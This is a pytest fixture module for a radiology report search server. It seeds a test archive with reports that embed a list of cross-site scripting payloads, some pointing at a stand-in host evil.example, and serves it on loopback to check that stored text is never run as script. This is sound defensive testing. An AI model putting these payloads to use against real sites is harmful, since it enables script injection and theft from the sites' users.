"""A small archive with reports that mean harm, and servers of it: in this process, or listening on loopback.

A test module takes the fixtures with `pytest_plugins = ["tests.server_support"]`. (PYTEST_DONT_REWRITE: the rest is
imported by name.)
"""

from __future__ import annotations

import csv
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from starlette.types import ASGIApp

from radseek.app.session import Session
from radseek.index_builder import build_index
from radseek.server.connections import server_config
from radseek.server.server_app import create_app
from radseek.server.settings import Settings
from tests.build_support import write_ct

READ, ADMIN = "read-token-0123456789abcdef", "admin-token-0123456789abcdef"
GUARDED = Settings(token=READ, admin_token=ADMIN)

# Stored in reports; a browser that took any answer for a page would run them.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=http://evil.example/x>",
    "<embed src=http://evil.example/x>",
    "<form action=http://evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "'\"><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr\u0000ipt>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<base href=http://evil.example/>",
)


@dataclass(frozen=True)
class Archive:
    """An index of four studies; `config` is the home of the key that names them, `extra` a study that is not in it."""

    index: Path
    config: Path
    extra: Path


@pytest.fixture(scope="session")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    """Build the archive once, with an encoder of random weights: nothing here asks what a score says."""
    base = tmp_path_factory.mktemp("server")
    uids = [write_ct(base / "studies" / str(seed), seed) for seed in range(4)]
    write_ct(base / "extra", 10)
    with (base / "reports.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["study", "report"])
        parts = [PAYLOADS[number :: len(uids)] for number in range(len(uids))]
        for uid, some in zip(uids, parts, strict=True):
            text = " ".join(f"Small nodule {payload} in the left lung." for payload in some).replace("\0", "")
            writer.writerow([uid, f"{text} No pleural effusion."])
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", str(base / "config"))
        index = base / "archive.index"
        build_index([base / "studies"], index, model="random", reports=base / "reports.csv", workers=1)
    return Archive(index, base / "config", base / "extra")


@pytest.fixture
def own_key(archive: Archive, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key that the archive was built with, for one test."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(archive.config))


@pytest.fixture(scope="module")
def session(archive: Archive) -> Iterator[Session]:
    """One desk for the tests of a module that change nothing of the index."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", str(archive.config))
        with Session.open(archive.index) as opened:
            opened.vectors(opened.cases()[0].key)
            yield opened


class Client(httpx.Client):
    """Asks a server that listens."""


@contextmanager
def listening(app: ASGIApp) -> Iterator[str]:
    """Serve an app on a free port of loopback while the block lasts; the value is its base URL."""
    server = uvicorn.Server(server_config(app, port=0, log_level="error", timeout_graceful_shutdown=2))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive(), "the server ended as it started"
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(20)


@pytest.fixture(scope="module")
def server(session: Session) -> Iterator[str]:
    """A server without tokens, as on loopback."""
    with listening(create_app(session)) as base:
        yield base


@pytest.fixture(scope="module")
def guarded_server(session: Session) -> Iterator[str]:
    """A server that asks for tokens."""
    with listening(create_app(session, GUARDED)) as base:
        yield base


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def questions(key: str) -> dict[str, dict[str, Any]]:
    """A body for every question, about one study."""
    return {
        "/v1/screen": {"study": key, "finding": ["nodule", "胸水"]},
        "/v1/classify": {"study": key, "labels": ["a CT of the chest", "a CT of the head"]},
        "/v1/similar": {"study": key, "k": 2, "contrast": "nodule", "where": ["modality=CT"], "text": "nodule"},
        "/v1/search": {"text": "nodule", "k": 3},
        "/v1/explain": {"study": key, "finding": ["nodule"], "k": 2},
    }
